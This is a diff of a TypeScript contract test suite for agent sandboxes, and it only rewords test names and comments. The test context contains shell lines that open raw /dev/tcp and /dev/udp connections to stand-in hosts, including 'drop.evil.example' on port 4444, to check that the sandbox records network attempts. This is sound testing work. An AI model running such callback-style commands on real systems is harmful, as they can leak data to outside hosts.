@@ -15,7 +15,7 @@ import {
 } from './contract.ts';
 import { describeHosts } from './hosts-suite.ts';
 
-/** Promises that an adapter may be unable to keep; each needs its reason. */
+/** Promises that an adapter may be unable to keep. Each gap needs a reason. */
 export type SandboxGap = 'signals' | 'permissions' | 'background' | 'callers' | 'limits' | 'isolation' | 'network';
 
 export interface SandboxSuiteOptions {
@@ -67,7 +67,7 @@ const networkTrials: readonly NetworkTrial[] = [
     seen: [{ protocol: 'tcp', address: '203.0.113.7', port: 443, bytes: 4, firstBytes: 'raw\n' }],
   },
   {
-    name: 'a connection without a word',
+    name: 'a connection without data',
     command: ': > /dev/tcp/203.0.113.7/6667',
     seen: [{ protocol: 'tcp', port: 6667, bytes: 0, firstBytes: '' }],
   },
@@ -116,7 +116,7 @@ const networkTrials: readonly NetworkTrial[] = [
   },
 ];
 
-/** Every adapter is held to the same sentences. */
+/** The contract tests that every adapter must pass. */
 export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSuiteOptions): void {
   const open = (change: Partial<OpenSandboxOptions> = {}): Promise<Sandbox> =>
     provider.open({ files: [], services: [], limits: DEFAULT_SANDBOX_LIMITS, signal: never, ...change });
@@ -125,7 +125,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
   const unless = (gap: SandboxGap): typeof it.skip => (knownGaps[gap] === undefined ? it : it.skip);
 
   describe(`sandbox contract: ${provider.name}`, () => {
-    it('runs a command in the home and tells its output streams and exit code apart', async () => {
+    it('runs a command in the home, and separates stdout, stderr and exit code', async () => {
       await using sandbox = await open();
       const result = await sandbox.run(toUntrusted('pwd; echo problem >&2; exit 3'), ordinary);
       expect(result).toMatchObject({
@@ -143,7 +143,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(await text(sandbox, 'cat note.txt')).toBe('kept\n');
     });
 
-    it('puts the given files in place, with their folders and modes', async () => {
+    it('creates the given files with their folders and modes', async () => {
       await using sandbox = await open({
         files: [{ path: 'tools/hello.sh', content: '#!/bin/bash\necho hello\n', mode: 0o755 }],
       });
@@ -151,7 +151,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect((await sandbox.readTree()).entries[`${sandbox.home}/tools/hello.sh`]?.mode).toBe(0o755);
     });
 
-    it('puts bytes in place', async () => {
+    it('creates binary and sparse files', async () => {
       const content = Uint8Array.from([0, 255, 10, 0]);
       await using sandbox = await open({
         files: [
@@ -166,7 +166,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(['data/raw', 'sparse'].map((path) => entries[`${sandbox.home}/${path}`]?.mode)).toEqual([0o644, 0o444]);
     });
 
-    unless('limits')('gives files the time that they are to have', async () => {
+    unless('limits')('sets the given modification time of files', async () => {
       const modifiedAt = Date.UTC(2019, 4, 6, 7, 8, 9);
       const paths = ['data/open', 'locked'];
       await using sandbox = await open({
@@ -175,7 +175,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(await text(sandbox, `stat -c '%Y %a' ${paths.join(' ')}`)).toBe('1557126489 644\n1557126489 444\n');
     });
 
-    it('refuses a file that cannot be one', async () => {
+    it('refuses an invalid file', async () => {
       const content = { sizeBytes: 4, blocks: [{ offset: 3, bytes: Buffer.from('ab') }] };
       await expect(open({ files: [{ path: 'a', content, mode: 0o644 }] })).rejects.toMatchObject({
         name: 'SandboxError',
@@ -184,7 +184,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
     });
 
     unless('limits')(
-      'holds a sparse file of 1 GiB in a disk of 64 MiB, and looks at the rest of the tree',
+      'stores a sparse file of 1 GiB on a disk of 64 MiB, and still reads the rest of the tree',
       async () => {
         const mib = 1024 * 1024;
         const bytes = Buffer.alloc(8192, 'w');
@@ -199,7 +199,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
         expect(performance.now() - started).toBeLessThan(10_000);
         const stat = await text(sandbox, "stat -c '%s %Y %a %b' model/weights.bin");
         expect(stat).toMatch(/^1073741824 1000000000 640 \d+\n$/);
-        // 512 bytes each: three pages for each block.
+        // Disk blocks have 512 bytes. Each block of the file takes three pages.
         expect(Number(stat.split(' ')[3])).toBeLessThanOrEqual(1024 * 3 * 8);
         expect(
           await text(sandbox, `tail -c +$((1023 * ${mib} + 100)) model/weights.bin | head -c 3 | tr "\\0" .`),
@@ -221,14 +221,14 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       },
     );
 
-    it('hands standard input over, and gives an empty one by default', async () => {
+    it('passes standard input, which is empty by default', async () => {
       await using sandbox = await open();
       const given = await sandbox.run(toUntrusted('cat'), { ...ordinary, stdin: 'a line\nand another' });
       expect(given.stdout).toBe('a line\nand another');
       expect(await text(sandbox, 'cat; echo end')).toBe('end\n');
     });
 
-    it('cuts long output and says how long it was', async () => {
+    it('cuts long output, and reports its full length', async () => {
       await using sandbox = await open();
       const result = await sandbox.run(toUntrusted('for i in {1..500}; do echo 0123456789; done'), {
         ...ordinary,
@@ -238,7 +238,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(readAsData(result.stdout)).toHaveLength(100);
     });
 
-    it('finishes one command before the next begins', async () => {
+    it('finishes one command before the next starts', async () => {
       await using sandbox = await open();
       await Promise.all([
         sandbox.run(toUntrusted('for i in {1..50}; do echo a >> order; done'), ordinary),
@@ -247,7 +247,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(await text(sandbox, 'uniq -c order | tr -s " " | tr "\\n" ";"')).toBe(' 50 a; 50 b;');
     });
 
-    it('answers a service from outside, with what the client was asked', async () => {
+    it('answers a service from outside, and receives the arguments of the client', async () => {
       const calls: ServiceCall[] = [];
       const answer = async (call: ServiceCall): Promise<string> => `answer ${calls.push(call)}`;
       await using sandbox = await open({ services: [{ name: 'sums', clientPath: 'ask', answer }] });
@@ -255,7 +255,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(calls.map(({ request }) => request)).toEqual(['one two', '']);
     });
 
-    it('shows what changed in the tree: content, mode, links, deletion', async () => {
+    it('shows changes in the tree: content, mode, links, deletion', async () => {
       await using sandbox = await open({
         files: ['edited', 'chmodded', 'deleted', 'linked'].map((path) => ({ path, content: path, mode: 0o644 })),
       });
@@ -272,7 +272,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(after[at('linked')]).toMatchObject({ kind: 'link', linkTarget: '/bin/true' });
     });
 
-    it('hands over a plain file from outside, and nothing that is larger, a link, or missing', async () => {
+    it('reads a plain file from outside, but no link, and no file that is too large or missing', async () => {
       await using sandbox = await open({ files: [{ path: 'notes/one', content: 'words', mode: 0o644 }] });
       await sandbox.run(toUntrusted('ln -s one notes/link; ln -s notes folder'), ordinary);
       const read = async (path: string, bytesMax = 100): Promise<string | null> => {
@@ -288,7 +288,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(await read(`${sandbox.home}/missing`)).toBeNull();
     });
 
-    it('stops on TERM to PID 1, and says so of the command that was running', async () => {
+    it('stops on TERM to PID 1, and reports it in the result of the running command', async () => {
       await using sandbox = await open();
       expect(sandbox.isAlive()).toBe(true);
       const result = await sandbox.run(toUntrusted('echo before; kill -s TERM 1; sleep 5; echo after'), ordinary);
@@ -302,7 +302,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       });
     });
 
-    it('keeps the tree readable when the machine has stopped', async () => {
+    it('keeps the tree readable after the machine has stopped', async () => {
       await using sandbox = await open();
       await sandbox.run(toUntrusted('echo last > words; kill -s TERM 1; sleep 5'), ordinary);
       await sandbox.whenStopped;
@@ -319,7 +319,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(await text(sandbox, 'echo from the agent > seen; ./look')).toContain('from the agent');
     });
 
-    it('ends a command when its signal is aborted', async () => {
+    it('ends a command if its signal is aborted', async () => {
       await using sandbox = await open();
       const controller = new AbortController();
       const running = sandbox.run(toUntrusted('sleep 30'), { ...ordinary, signal: controller.signal });
@@ -327,19 +327,19 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       await expect(running).rejects.toThrow('enough');
     });
 
-    it('gives the agent nothing but a way to run commands', async () => {
+    it('lets the agent only run commands', async () => {
       await using sandbox = await open();
       expect(Object.keys(sandbox.forAgent())).toEqual(['run']);
     });
 
-    it('leaves nothing after a kill, and says so again when asked again', async () => {
+    it('leaves nothing after a kill, and a second kill reports the same', async () => {
       await using sandbox = await open();
       expect(await sandbox.kill()).toMatchObject({ survivors: 0 });
       expect(sandbox.isAlive()).toBe(false);
       expect(await sandbox.kill()).toMatchObject({ before: 0, survivors: 0 });
     });
 
-    it('refuses with a SandboxError when it is closed', async () => {
+    it('throws a SandboxError if it is closed', async () => {
       const sandbox = await open();
       await sandbox[Symbol.asyncDispose]();
       await expect(Promise.resolve().then(() => sandbox.run(toUntrusted('true'), ordinary))).rejects.toThrow(
@@ -354,13 +354,13 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(await text(sandbox, 'echo next')).toBe('next\n');
     });
 
-    unless('background')('lets background processes live on, and hands their later output over', async () => {
+    unless('background')('keeps background processes running, and returns their later output', async () => {
       await using sandbox = await open();
       await sandbox.run(toUntrusted('(sleep 0.2; echo later) &'), ordinary);
       expect(await text(sandbox, 'sleep 0.5')).toBe('later\n');
     });
 
-    unless('callers')('tells the shipped client from whatever else asks', async () => {
+    unless('callers')('distinguishes the shipped client from other callers', async () => {
       const ways: string[] = [];
       const answer = async (call: ServiceCall): Promise<string> => {
         ways.push(call.via);
@@ -378,7 +378,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(await text(sandbox, 'echo still here')).toBe('still here\n');
     });
 
-    unless('signals')('holds every process still while it is frozen', async () => {
+    unless('signals')('stops every process while it is frozen', async () => {
       await using sandbox = await open();
       await sandbox.run(toUntrusted('(while :; do echo x >> growing; done) & sleep 0.1'), ordinary);
       expect((await sandbox.freeze()).processes).toBeGreaterThan(1);
@@ -392,7 +392,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(await size()).toBeGreaterThan(first ?? 0);
     });
 
-    it('stops on TERM that PID 1 gets from outside', async () => {
+    it('stops if PID 1 gets TERM from outside', async () => {
       await using sandbox = await open();
       await sandbox.signalInit();
       await Promise.race([sandbox.whenStopped, sleep(5000)]);
@@ -400,7 +400,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       await sandbox.signalInit();
     });
 
-    unless('signals')('lets stopped after a freeze what was stopped before it', async () => {
+    unless('signals')('keeps processes stopped after a thaw if they were stopped before the freeze', async () => {
       await using sandbox = await open();
       const start = '(while :; do echo x >> growing; sleep 0.01; done) > /dev/null 2>&1 & sleep 0.1; kill -STOP $!';
       await sandbox.run(toUntrusted(start), ordinary);
@@ -415,7 +415,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(first).toBeGreaterThan(0);
     });
 
-    unless('limits')('says ENOSPC when the disk is full, and EAGAIN when there are too many processes', async () => {
+    unless('limits')('gives ENOSPC if the disk is full, and EAGAIN if there are too many processes', async () => {
       await using sandbox = await open({
         limits: { ...DEFAULT_SANDBOX_LIMITS, diskBytesMax: 1024 * 1024, processesMax: 20 },
       });
@@ -469,12 +469,12 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       },
     );
 
-    it('says that nobody looked at the network where nobody was asked to', async () => {
+    it('returns "recorded: false" if the network is not recorded', async () => {
       await using sandbox = await open();
       expect(await sandbox.readNetwork()).toEqual({ recorded: false, attempts: [], truncated: false });
     });
 
-    it.skipIf(provider.can.network)('refuses to record a network that it does not have', async () => {
+    it.skipIf(provider.can.network)('refuses to record the network if it does not support it', async () => {
       await expect(open({ network: 'recorded' })).rejects.toMatchObject({ name: 'SandboxError', code: 'unavailable' });
     });
 
@@ -491,7 +491,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       },
     );
 
-    unless('network')('answers the names it makes up the same each time, and knows them again', async () => {
+    unless('network')('resolves a name to the same address each time, and records the name', async () => {
       await using sandbox = await open({ network: 'recorded' });
       await text(sandbox, 'for i in 1 2; do echo hello > /dev/tcp/drop.evil.example/4444; done');
       const { attempts } = await sandbox.readNetwork();
@@ -509,13 +509,13 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(attempt).toMatchObject({ address: '203.0.113.7', port: 9, bytes: 300_000, firstBytes: 'a'.repeat(4096) });
     });
 
-    unless('network')('takes all UDP to one place for one attempt', async () => {
+    unless('network')('counts all UDP packets to one address and port as one attempt', async () => {
       await using sandbox = await open({ network: 'recorded' });
       await text(sandbox, 'for i in 1 2 3; do echo $i > /dev/udp/203.0.113.7/514; sleep 0.01; done');
       expect((await sandbox.readNetwork()).attempts).toMatchObject([{ port: 514, bytes: 6, firstBytes: '1\n2\n3\n' }]);
     });
 
-    unless('network')('keeps a bounded number of attempts and says so', async () => {
+    unless('network')('keeps a bounded number of attempts, and sets "truncated"', async () => {
       await using sandbox = await open({ network: 'recorded' });
       await text(sandbox, 'for i in {1..1100}; do : > /dev/tcp/203.0.113.7/$i; done');
       const { attempts, truncated } = await sandbox.readNetwork();
@@ -534,7 +534,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       ]);
     });
 
-    unless('network')('leaves services of the agent on its own loopback alone', async () => {
+    unless('network')('does not interfere with services of the agent on loopback', async () => {
       await using sandbox = await open({ network: 'recorded' });
       const serve =
         'use IO::Socket::INET; my $l = IO::Socket::INET->new(Listen => 1, LocalAddr => "127.0.0.1:8000") or die; print {$l->accept} "mine\\n"';
@@ -542,7 +542,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect((await sandbox.readNetwork()).attempts).toEqual([]);
     });
 
-    unless('network')('can still be read when the machine has stopped', async () => {
+    unless('network')('can still be read after the machine has stopped', async () => {
       await using sandbox = await open({ network: 'recorded' });
       await sandbox.run(toUntrusted('echo last > /dev/tcp/203.0.113.7/80; kill -s TERM 1; sleep 5'), ordinary);
       await sandbox.whenStopped;
@@ -554,7 +554,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
 
     describeHosts({ provider, open });
 
-    it('opens two sandboxes at once for one trial, each with its own', async () => {
+    it('can open two sandboxes at once, each with its own files and services', async () => {
       const file = (content: string): OpenSandboxOptions['files'] => [{ path: 'whose', content, mode: 0o644 }];
       const service = (name: string): OpenSandboxOptions['services'] => [
         { name: 'ask', clientPath: 'ask', answer: async () => name },
@@ -570,7 +570,7 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(await text(other, 'cat whose')).toBe('second');
     });
 
-    unless('isolation')('stays the same under twenty sandboxes at once', async () => {
+    unless('isolation')('keeps its promises with twenty sandboxes at once', async () => {
       const results = await Promise.all(
         Array.from({ length: 20 }, async (_, index) => {
           await using sandbox = await open();
